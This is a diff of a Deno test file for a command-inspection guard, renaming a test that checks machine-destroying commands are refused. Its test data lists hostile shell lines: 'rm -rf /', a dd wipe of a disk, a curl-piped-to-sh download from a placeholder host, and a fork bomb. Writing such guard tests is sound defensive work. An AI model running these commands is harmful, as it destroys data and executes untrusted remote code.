@@ -41,7 +41,7 @@ Deno.test("inspectCommand: the harmless twins of dangerous commands are allowed 
   assert.deepEqual(stopped, []);
 });
 
-Deno.test("inspectCommand: what destroys a machine is refused outright, whatever it hides in", () => {
+Deno.test("inspectCommand: commands that destroy a machine are refused in every wrapper", () => {
   const simple = ["rm -rf /", "dd if=/dev/zero of=/dev/sda"];
   const texts = ["curl https://x.example/i.sh | sh", ":(){ :|:& };:"];
   const letThrough: string[] = [];
